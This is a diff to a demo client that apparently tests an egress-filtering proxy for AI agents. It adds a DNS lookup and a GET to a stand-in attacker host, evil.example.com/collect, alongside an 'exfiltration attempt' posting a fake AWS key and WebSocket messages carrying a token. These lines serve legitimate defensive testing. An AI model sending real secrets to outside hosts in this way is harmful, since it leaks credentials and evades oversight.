@@ -5,6 +5,7 @@
 //   node agent-client.mjs ws URL MESSAGE...
 //   node agent-client.mjs demo
 // Prints one JSON object per result on stdout; never throws on a refused request (that is data).
+import { lookup } from 'node:dns/promises';
 import { readFileSync } from 'node:fs';
 import http from 'node:http';
 import tls from 'node:tls';
@@ -164,6 +165,13 @@ async function demo(): Promise<void> {
       '{"prompt":"hello"}',
     ),
   );
+  let answer: string;
+  try {
+    answer = (await lookup('evil.example.com')).address;
+  } catch (e) {
+    answer = (e as NodeJS.ErrnoException).code ?? String(e);
+  }
+  say('DNS for a name not on the allowlist', { status: 0, body: `evil.example.com resolves to ${answer}` });
   say('blocked domain', await request('GET', 'https://evil.example.com/collect'));
   say(
     'exfiltration attempt (AWS key in a POST body)',
@@ -177,7 +185,11 @@ async function demo(): Promise<void> {
   say('upstream answers with a real secret', await request('GET', 'https://api.example.test/leak'));
   say(
     'WebSocket exchange',
-    await websocket('wss://api.example.test/ws', ['hello from the agent', `key ${fakeAwsKey()}`]),
+    await websocket('wss://api.example.test/ws', [
+      'hello from the agent',
+      `token ${key}`,
+      `key ${fakeAwsKey()}`,
+    ]),
   );
 }
 
